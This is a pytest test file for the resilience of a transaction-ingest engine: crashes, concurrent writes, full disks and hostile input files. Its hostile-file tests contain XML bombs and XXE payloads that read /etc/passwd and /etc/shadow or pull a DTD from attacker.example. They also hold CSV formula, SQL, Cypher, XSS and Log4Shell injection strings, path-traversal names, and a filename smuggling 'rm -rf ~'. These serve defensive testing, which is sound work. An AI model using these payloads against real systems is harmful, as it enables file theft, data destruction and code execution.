"""Resilience: each test proves one claim about crashes, concurrency, full disks and hostile
files, through the real ingest path (engine.services.ingest.ingest_file → loaders → EmbeddedStore)."""

from __future__ import annotations

import contextlib
import errno
import hashlib
import json
import multiprocessing
import os
import signal
import subprocess
import time
from pathlib import Path

import pyarrow as pa
import pytest

from engine.core.errors import InputError, StoreError
from engine.security.audit import AuditError, AuditLog
from engine.security.pseudonymise import neutralise_formulas
from engine.services.export import safe_csv
from engine.services.ingest import ingest_file
from engine.store import embedded
from engine.store.embedded import EmbeddedStore

HEADER = "tx_id,ts,src_account,dst_account,amount,currency,channel,reference\n"
BIG_ROWS = 60_000


def write_csv(path: Path, n: int, prefix: str = "T") -> Path:
    """A canonical transactions CSV with ``n`` rows and ids ``<prefix><i>``."""
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(HEADER)
        for i in range(n):
            handle.write(
                f"{prefix}{i},2024-01-{1 + i % 28:02d}T10:00:00Z,A{i % 5000},B{i % 7000},"
                f"{10 + i % 1000}.5,EUR,wire,{hashlib.md5(b'%d' % i).hexdigest()}\n"
            )
    return path


@pytest.fixture(scope="module")
def big_csv(tmp_path_factory) -> Path:
    return write_csv(tmp_path_factory.mktemp("big") / "big.csv", BIG_ROWS)


def snapshot(home: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(home)): p.read_bytes()
        for p in sorted(home.rglob("*"))
        if p.is_file() and p.name != ".lock"
    }


def assert_consistent(home: Path) -> int:
    """Every batch the manifest names is complete and readable; return the transaction count."""
    store = EmbeddedStore(home)
    manifest = json.loads((home / "manifest.json").read_text())
    for entry in manifest["batches"]:
        for _name, rel in entry["files"].items():
            assert (home / rel).is_file(), rel
    count = store.count("transactions")
    assert store.read_table("transactions").num_rows == count
    ids = store.read_table("transactions", ["tx_id"])["tx_id"]
    assert len(set(ids.to_pylist())) == count  # no duplicates
    return count


def seeded_store(tmp_path: Path) -> tuple[Path, EmbeddedStore]:
    home = tmp_path / "store"
    store = EmbeddedStore(home)
    assert ingest_file(store, write_csv(tmp_path / "seed.csv", 100, "S")).status == "written"
    return home, store


# -- a process killed mid-ingest -------------------------------------------------------------


def _ingest_and_pause_while_parsing(home: str, path: str, reached) -> None:  # child process
    def progress(done: int, total: int) -> None:
        if not reached.is_set():
            reached.set()
            time.sleep(60)  # parked mid-parse until the parent kills us

    ingest_file(EmbeddedStore(home), path, progress=progress)


def _ingest_and_pause_while_writing(home: str, path: str, reached) -> None:  # child process
    real = embedded._write_parquet

    def write_then_park(table, target):
        real(table, target)  # one data file is on disk, the manifest is not yet replaced
        reached.set()
        time.sleep(60)

    embedded._write_parquet = write_then_park
    ingest_file(EmbeddedStore(home), path)


@pytest.mark.parametrize(
    "child", [_ingest_and_pause_while_parsing, _ingest_and_pause_while_writing]
)
def test_sigkill_mid_ingest_leaves_the_store_consistent_and_the_batch_rerunnable(
    tmp_path, big_csv, child
):
    home, _ = seeded_store(tmp_path)
    ctx = multiprocessing.get_context("spawn")
    reached = ctx.Event()
    process = ctx.Process(target=child, args=(str(home), str(big_csv), reached))
    process.start()
    try:
        assert reached.wait(120), "the child never got mid-ingest"
    finally:
        os.kill(process.pid, signal.SIGKILL)
        process.join(30)
    assert process.exitcode == -signal.SIGKILL
    # consistent: only the seed batch is visible, complete
    assert assert_consistent(home) == 100
    store = EmbeddedStore(home)
    assert store.count("batches") == 1
    # re-runnable: the same file lands whole, and the dead writer's leftovers are swept
    report = ingest_file(store, big_csv)
    assert report.status == "written" and report.accepted == BIG_ROWS
    assert assert_consistent(home) == 100 + BIG_ROWS
    referenced = {b["dir"] for b in json.loads((home / "manifest.json").read_text())["batches"]}
    assert {f"batches/{p.name}" for p in (home / "batches").iterdir()} == referenced
    # and a second run of the same file changes nothing
    assert ingest_file(store, big_csv).status == "duplicate"
    assert store.count("transactions") == 100 + BIG_ROWS


# -- two ingests at once ---------------------------------------------------------------------


def _ingest_after_barrier(home: str, path: str, barrier, results) -> None:  # child process
    barrier.wait()
    report = ingest_file(EmbeddedStore(home), path)
    results.put((Path(path).name, report.status, report.accepted))


def _run_two(home: Path, paths: list[Path]) -> list[tuple[str, str, int]]:
    ctx = multiprocessing.get_context("spawn")
    barrier = ctx.Barrier(len(paths))
    results = ctx.Queue()
    children = [
        ctx.Process(target=_ingest_after_barrier, args=(str(home), str(p), barrier, results))
        for p in paths
    ]
    for child in children:
        child.start()
    for child in children:
        child.join(180)
        assert child.exitcode == 0
    return sorted(results.get(timeout=5) for _ in children)


def test_two_different_ingests_at_once_both_land(tmp_path):
    home, _ = seeded_store(tmp_path)
    files = [write_csv(tmp_path / f"{p}.csv", 5_000, p) for p in ("P", "Q")]
    assert _run_two(home, files) == [("P.csv", "written", 5_000), ("Q.csv", "written", 5_000)]
    assert assert_consistent(home) == 100 + 10_000


def test_the_same_file_ingested_twice_at_once_lands_once(tmp_path):
    home, _ = seeded_store(tmp_path)
    one = write_csv(tmp_path / "one.csv", 5_000, "R")
    twin = tmp_path / "twin.csv"
    twin.write_bytes(one.read_bytes())
    statuses = sorted(status for _, status, _ in _run_two(home, [one, twin]))
    assert statuses == ["duplicate", "written"]
    assert assert_consistent(home) == 100 + 5_000


# -- a full disk -----------------------------------------------------------------------------


@contextlib.contextmanager
def tiny_disk(path: Path, size: str = "1m"):
    """A real 1 MiB tmpfs at ``path`` when we may mount one (root), else ``None``."""
    path.mkdir()
    mounted = (
        os.geteuid() == 0
        and subprocess.run(
            ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
            capture_output=True,
        ).returncode
        == 0
    )
    try:
        yield mounted
    finally:
        if mounted:
            subprocess.run(["umount", "-l", str(path)], check=False)


def test_full_disk_gives_a_clear_error_and_no_corruption(tmp_path, big_csv, monkeypatch):
    disk = tmp_path / "disk"
    with tiny_disk(disk) as real:
        home = disk / "store"
        store = EmbeddedStore(home)
        assert ingest_file(store, write_csv(tmp_path / "small.csv", 50, "M")).status == "written"
        log = AuditLog(disk / "audit" / "audit.jsonl")
        log.record("ana", "upload", "small.csv")
        before = snapshot(home)
        if not real:  # no mount allowed: the disk fills at the write boundary instead

            def no_space(table, target):
                raise OSError(errno.ENOSPC, "No space left on device")

            monkeypatch.setattr(embedded, "_write_parquet", no_space)
        with pytest.raises(StoreError, match="disk is full"):
            ingest_file(store, big_csv)
        assert snapshot(home) == before
        assert assert_consistent(home) == 50
        # the audit log refuses cleanly too, and stays intact
        if real:
            filler = disk / "filler"
            with contextlib.suppress(OSError), open(filler, "wb") as handle:
                while True:
                    handle.write(b"\0" * 65536)
                    handle.flush()
            with pytest.raises(AuditError, match="cannot record"):
                for i in range(10_000):  # the last free bytes go, then a clear error
                    log.record("ana", "upload", f"file-{i}", padding="x" * 900)
            filler.unlink()
        assert log.verify().ok
        monkeypatch.undo()
        # with space again, the same file lands
        report = ingest_file(store, write_csv(tmp_path / "later.csv", 2_000, "L"))
        assert report.status == "written" and assert_consistent(home) == 2_050


# -- hostile files ---------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<report><transaction><transactionnumber>&lol9;</transactionnumber></transaction></report>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<report><transaction><transactionnumber>&xxe;</transactionnumber></transaction></report>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE report SYSTEM "http://attacker.example/evil.dtd">
<report><transaction><transactionnumber>1</transactionnumber></transaction></report>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "file:///etc/shadow"> %remote;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt/></Document>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_xml_bombs_and_external_entities_are_refused_and_nothing_is_written(tmp_path, text):
    home, store = seeded_store(tmp_path)
    before = snapshot(home)
    path = tmp_path / "report.xml"
    path.write_text(text)
    with pytest.raises(InputError, match="DOCTYPE"):
        ingest_file(store, path)
    assert snapshot(home) == before


def test_entities_hidden_after_the_first_64_kib_expand_to_nothing(tmp_path):
    """A DOCTYPE is only legal before the root, so padding the prolog with a long comment is
    the one way to push it past the prolog check; lxml must still not resolve anything."""
    home, store = seeded_store(tmp_path)
    padded = EXTERNAL_ENTITY.replace(
        '<?xml version="1.0"?>', '<?xml version="1.0"?><!--' + "x" * 70_000 + "-->"
    )
    path = tmp_path / "padded.xml"
    path.write_text(padded)
    with contextlib.suppress(InputError):  # refused is fine; loaded must be harmless
        ingest_file(store, path)
    stored = json.dumps(
        [EmbeddedStore(home).read_table(t).to_pylist() for t in ("transactions", "rejected")],
        default=str,
    )
    assert "root:x:0:0" not in stored


HOSTILE_VALUES = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Robert'); DROP TABLE transactions;--",
    "x' OR '1'='1",
    "MATCH (n) DETACH DELETE n",
    "'}) MATCH (n) DETACH DELETE n //",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
]


def test_formula_and_injection_looking_values_are_stored_as_data_and_exported_inert(tmp_path):
    home, store = seeded_store(tmp_path)
    path = tmp_path / "hostile.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        import csv

        writer = csv.writer(handle)
        writer.writerow(HEADER.strip().split(","))
        for i, value in enumerate(HOSTILE_VALUES):
            writer.writerow(
                [f"H{i}", "2024-02-01T00:00:00Z", "A1", "B1", "5.0", "EUR", "wire", value]
            )
    report = ingest_file(store, path)
    assert report.status == "written" and report.accepted == len(HOSTILE_VALUES)
    table = EmbeddedStore(home).read_table("transactions")
    stored = dict(zip(table["tx_id"].to_pylist(), table["reference"].to_pylist(), strict=True))
    # stored verbatim (data, never code), and the rest of the store is untouched
    assert [stored[f"H{i}"] for i in range(len(HOSTILE_VALUES))] == HOSTILE_VALUES
    assert assert_consistent(home) == 100 + len(HOSTILE_VALUES)
    # exported inert: no cell of either CSV writer starts with a formula character
    hostile = table.filter(pa.compute.starts_with(table["tx_id"], "H"))
    for cells in (
        neutralise_formulas(hostile)["reference"].to_pylist(),
        [
            line.split(",", 1)[0]
            for line in safe_csv(hostile.select(["reference"]).to_pandas())
            .decode()
            .splitlines()[1:]
        ],
    ):
        assert not any(c.lstrip('"')[:1] in "=+-@\t\r" for c in cells)


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\config", "config"),
        ("/abs/path/tx.csv", "tx.csv"),
        ("evil\nname.csv", "evilname.csv"),
        ("nul\x00byte.csv", "nulbyte.csv"),
        ("...", "upload"),
        ("\u202etxt.exe", "txt.exe"),
    ],
)
def test_path_tricks_in_upload_names_are_stored_harmlessly(tmp_path, given, expected):
    home, store = seeded_store(tmp_path)
    path = write_csv(tmp_path / "payload.csv", 10, "N")
    report = ingest_file(store, path, source_name=given)
    assert report.status == "written" and report.source == expected
    sources = EmbeddedStore(home).read_table("batches")["source"].to_pylist()
    assert expected in sources
    # nothing was written outside the store folder, and no file is named after the upload
    inside = {p.resolve() for p in home.rglob("*")}
    assert all(str(p).startswith(str(home.resolve())) for p in inside)
    assert not any(expected in p.name for p in home.rglob("*") if expected != "upload")


def test_a_file_named_with_a_newline_on_disk_is_ingested_under_a_clean_name(tmp_path):
    _, store = seeded_store(tmp_path)
    weird = tmp_path / "line\nbreak;rm -rf ~.csv"
    write_csv(weird, 10, "W")
    report = ingest_file(store, weird)
    assert report.status == "written" and "\n" not in report.source
    assert report.source == "linebreak;rm -rf ~.csv"


def test_huge_fields_and_lines_are_refused_or_quarantined(tmp_path):
    home, store = seeded_store(tmp_path)
    path = tmp_path / "huge.csv"
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(HEADER)
        handle.write("G1,2024-01-01T00:00:00Z,A1,B1,1.0,EUR,wire,ok\n")
        handle.write("G2,2024-01-01T00:00:00Z,A1,B1,1.0,EUR,wire," + "x" * 100_000 + "\n")
    try:
        report = ingest_file(store, path)
    except InputError:
        assert assert_consistent(home) == 100
    else:
        assert report.accepted == 1 and report.rejected == 1
        assert assert_consistent(home) == 101
        long_refs = [
            r
            for r in EmbeddedStore(home).read_table("transactions")["reference"].to_pylist()
            if r and len(r) > 10_000
        ]
        assert long_refs == []


# -- hostile files that once ended in a traceback (issue 17, item 8) -------------------------


def _hostile_files(folder: Path) -> dict[str, Path]:
    """Files that each once stopped the loaders with something other than an InputError."""
    import gzip

    folder.mkdir(parents=True, exist_ok=True)
    deep = folder / "deep.jsonl"
    deep.write_text('{"tx_id": ' + "[" * 100_000 + "]" * 100_000 + "}\n", encoding="utf-8")
    packed = gzip.compress(HEADER.encode() + b"t1,2024-01-01T00:00:00Z,A,B,1,EUR,wire,x\n" * 20_000)
    truncated = folder / "truncated.csv.gz"
    truncated.write_bytes(packed[: len(packed) // 2])
    late = folder / "late.csv.gz"  # header fine, the stream breaks after many rows
    late.write_bytes(packed[: len(packed) * 9 // 10])
    fake = folder / "fake.csv.gz"
    fake.write_bytes(HEADER.encode() + b"t1,2024-01-01T00:00:00Z,A,B,1,EUR,wire,x\n")
    return {"deep": deep, "truncated": truncated, "late": late, "fake": fake}


@pytest.mark.parametrize("kind", ["deep", "truncated", "late", "fake"])
def test_hostile_file_ends_in_an_input_error_naming_it_without_server_paths(tmp_path, kind):
    path = _hostile_files(tmp_path / "in")[kind]
    with pytest.raises(InputError) as caught:
        ingest_file(EmbeddedStore(tmp_path / "store"), path)
    assert caught.value.file == path.name
    assert str(tmp_path) not in str(caught.value)


def test_deep_json_line_is_one_rejected_row_and_the_rest_loads(tmp_path):
    path = tmp_path / "tx.jsonl"
    good = '{"tx_id": "t1", "ts": "2024-01-01T00:00:00Z", "src_account": "A", '
    good += '"dst_account": "B", "amount": 5, "currency": "EUR"}\n'
    path.write_text(good + '{"tx_id": ' + "[" * 50_000 + "]" * 50_000 + "}\n", encoding="utf-8")
    report = ingest_file(EmbeddedStore(tmp_path / "store"), path)
    assert report.accepted == 1 and report.rejected == 1
    assert report.reasons == {"invalid JSON: nested too deeply": 1}


def test_one_hostile_file_does_not_stop_the_others_of_the_command(tmp_path):
    from typer.testing import CliRunner

    from engine.cli import app

    hostile = _hostile_files(tmp_path / "in")
    good = write_csv(tmp_path / "in" / "good.csv", 10)
    files = [*map(str, hostile.values()), str(good)]
    result = CliRunner().invoke(app, ["ingest", *files, "--home", str(tmp_path / "store")])
    assert result.exit_code == 2, result.output  # refused files: exit 2, never a traceback
    assert isinstance(result.exception, SystemExit)
    for path in hostile.values():
        assert f"{path.name}: refused" in result.output
    assert EmbeddedStore(tmp_path / "store").count("transactions") == 10


def test_dashboard_upload_of_a_hostile_file_is_refused_and_audited(tmp_path, monkeypatch):
    from engine.security.auth import User
    from engine.services.audited import AuditedSession

    monkeypatch.setenv("MONEYTRAIL_AUDIT_FILE", str(tmp_path / "audit.jsonl"))
    session = AuditedSession(User("ana", "analyst"), EmbeddedStore(tmp_path / "store"))
    for path in _hostile_files(tmp_path / "in").values():
        with pytest.raises(InputError):
            session.ingest(path, source_name=path.name)
    refused = AuditLog(tmp_path / "audit.jsonl").entries(action="upload_refused")
    assert [e["target"] for e in refused] == ["deep.jsonl", "truncated.csv.gz", "late.csv.gz",
                                              "fake.csv.gz"]  # fmt: skip
    assert all(str(tmp_path) not in e["details"]["error"] for e in refused)
